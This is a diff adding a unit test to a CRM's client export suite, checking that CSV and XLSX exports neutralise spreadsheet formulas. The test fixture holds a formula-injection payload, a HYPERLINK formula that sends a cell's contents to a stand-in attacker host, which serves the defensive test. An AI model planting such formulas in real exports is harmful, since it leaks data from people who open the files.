@@ -210,6 +210,26 @@ class TestClientExport(SmartbookCrmCase):
                 self.assertIs(record["consent_sms"], True)
                 self.assertIs(record["blacklisted"], False)
 
+    def test_formulas_written_as_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+        client = self.env["res.partner"].create(
+            {"name": formula, "smartbook_client": True, "smartbook_profession": "@SUM(A1:A9)"}
+        )
+        domain = f'[["id", "=", {client.id}]]'
+        _wizard, _action, content = self._export("csv", client_domain=domain)
+        header, row = self._csv_rows(content)
+        values = dict(zip(header, row, strict=True))
+        self.assertEqual(values["Name"], "'" + formula)
+        self.assertEqual(values["Profession"], "'@SUM(A1:A9)")
+        record, _problems = parse_row(row, guess_mapping(header))
+        self.assertEqual(record["name"], formula, "the import reads the export back")
+        _wizard, _action, content = self._export("xlsx", client_domain=domain)
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+        self.assertEqual((sheet["A2"].value, sheet["A2"].data_type), (formula, "s"))
+        self.assertFalse(
+            [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+        )
+
     # ------------------------------------------------------------------ bad input
 
     def test_no_column_is_a_clear_error(self):
